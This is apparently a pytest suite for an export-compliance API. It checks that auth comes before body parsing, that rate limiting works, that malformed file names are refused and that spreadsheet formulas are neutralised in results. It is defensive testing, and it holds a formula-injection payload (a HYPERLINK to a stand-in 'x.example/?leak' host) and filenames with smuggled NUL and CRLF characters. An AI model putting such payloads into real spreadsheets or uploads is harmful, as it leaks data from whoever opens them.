"""The API as a hostile or careless client drives it (issue #16): tokens before bodies, the document's own
examples answered, odd file names refused before any run or audit record, formulas never live in results."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any
from urllib.parse import unquote

import httpx
import pytest
from openpyxl import load_workbook

from exportctl.fronts.api.deps import Settings


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


SHAPE = {"error", "message", "field", "file", "line", "suggestions"}


def _records(client: httpx.Client, tokens: dict[str, str]) -> int:
    r = client.get("/v1/audit/verify", headers=bearer(tokens["admin"]))
    assert r.status_code == 200 and r.json()["ok"], r.text
    return int(r.json()["records"])


def test_no_token_is_401_whatever_the_body(client: httpx.Client) -> None:
    for body in (b"{not json", b"\xff\xfe", b"x" * (300 * 1024)):  # the last is over the 256 KB limit
        r = client.post("/v1/check", content=body, headers={"Content-Type": "application/json"})
        assert r.status_code == 401 and set(r.json()) == SHAPE, r.text
        assert r.headers["www-authenticate"] == "Bearer"
    bad = client.post(
        "/v1/check", content=b"{", headers={**bearer("nope"), "Content-Type": "application/json"}
    )
    assert bad.status_code == 401


def test_unreadable_body_with_a_token_is_422(client: httpx.Client, tokens: dict[str, str]) -> None:
    for body in (b"{not json", b"\xff\xfe\x00"):
        r = client.post(
            "/v1/diff", content=body, headers={**bearer(tokens["read"]), "Content-Type": "application/json"}
        )
        assert r.status_code == 422 and r.json()["field"] == "body", r.text


def test_anonymous_requests_are_rate_limited(serve: Callable[[Settings], Any], tmp_path: Any) -> None:
    s = serve(Settings(rate_per_second=0.001, burst=3, database_url=f"sqlite:///{tmp_path / 's.db'}"))
    with httpx.Client(base_url=s.url, timeout=60) as c:
        codes = [c.post("/v1/check", content=b"{").status_code for _ in range(5)]
        assert codes == [401, 401, 401, 429, 429]
        assert c.get("/v1/health").status_code == 200  # public: not counted


@pytest.mark.parametrize("path", ["/v1/diff", "/v1/timeline", "/v1/tariff/history"])
def test_unknown_scenario_measure_is_422(client: httpx.Client, tokens: dict[str, str], path: str) -> None:
    body: dict[str, Any] = {"from": "2022-10-01", "to": "2023-11-30"}
    if path == "/v1/tariff/history":
        body |= {"hts": "8541.42", "origin": "CN"}
    body["scenario"] = {"name": "x", "remove": ["no-such-measure"]}
    r = client.post(path, json=body, headers=bearer(tokens["read"]))
    # refused by the document's MeasureId enum (the bundled registry's ids), naming the item
    assert r.status_code == 422 and r.json()["field"] == "scenario.remove.0", r.text


def test_openapi_request_examples_are_answered(client: httpx.Client, tokens: dict[str, str]) -> None:
    doc = client.get("/openapi.json").json()
    ran = 0
    for path, item in doc["paths"].items():
        for method, op in item.items():
            content = op.get("requestBody", {}).get("content", {}).get("application/json")
            if not content:
                continue
            schema = content.get("schema", {})
            if "$ref" in schema:
                schema = doc["components"]["schemas"][schema["$ref"].split("/")[-1]]
            examples = [e["value"] for e in (content.get("examples") or {}).values()]
            examples += schema.get("examples", [])
            for example in examples:
                r = client.request(method.upper(), path, json=example, headers=bearer(tokens["all"]))
                # the review example names an entry the bundled data may not hold: 404, never 5xx
                assert r.status_code == 200 or (path == "/v1/reviews" and r.status_code == 404), (
                    path,
                    r.text,
                )
                ran += 1
    assert ran >= 8, ran


@pytest.mark.parametrize(
    ("name", "status"),
    [
        ("Aufträge-出口.csv", 200),
        ("a" * 296 + ".csv", 422),
        ("book\x00.csv", 422),
        ("book\r\n.csv", 422),
    ],
)
def test_odd_file_names(client: httpx.Client, tokens: dict[str, str], name: str, status: int) -> None:
    before = _records(client, tokens)
    book = b"order_id,eccn,destination,ultimate_consignee,date\nA,EAR99,DE,Acme,2025-05-01\n"
    # the form written by hand: httpx would escape a NUL or a newline in the name before sending it
    form = (
        b'--B\r\nContent-Disposition: form-data; name="file"; filename="' + name.encode("utf-8") + b'"\r\n'
        b"Content-Type: text/csv\r\n\r\n" + book + b"\r\n--B--\r\n"
    )
    headers = {**bearer(tokens["check"]), "Content-Type": "multipart/form-data; boundary=B"}
    r = client.post("/v1/check/file", content=form, headers=headers)
    assert r.status_code == status, r.text
    if status == 200:
        assert _records(client, tokens) == before + 2  # the run is audited (its chunk, its file) and answered
        disposition = r.headers["content-disposition"]
        assert (
            disposition.isascii() and unquote(disposition.split("UTF-8''")[1]) == "Aufträge-出口-results.csv"
        )
    else:
        assert r.json()["field"] in ("file", "body") and set(r.json()) == SHAPE  # CRLF breaks the form itself
        assert _records(client, tokens) == before  # refused before the run: no record without an answer


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_check_file_results_carry_no_live_formula(
    client: httpx.Client, tokens: dict[str, str], lead: str
) -> None:
    party = lead + 'HYPERLINK("http://x.example/?leak","open")'
    text = io.StringIO()
    csv.writer(text).writerows([["order_id", "eccn", "destination", "ultimate_consignee", "date"],
                                ["A", "EAR99", "DE", party, "2025-05-01"]])  # fmt: skip
    book = text.getvalue().encode()
    for output in ("csv", "xlsx"):
        r = client.post(
            "/v1/check/file", files={"file": ("b.csv", book)}, data={"output": output},
            headers=bearer(tokens["check"]),
        )  # fmt: skip
        assert r.status_code == 200, r.text
        if output == "csv":
            rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8"), newline="")))
            assert rows[0]["ultimate_consignee"] == "'" + party
        else:
            sheet = load_workbook(io.BytesIO(r.content)).active
            assert sheet is not None
            cells = [c for c in sheet[2] if c.value == party]
            assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
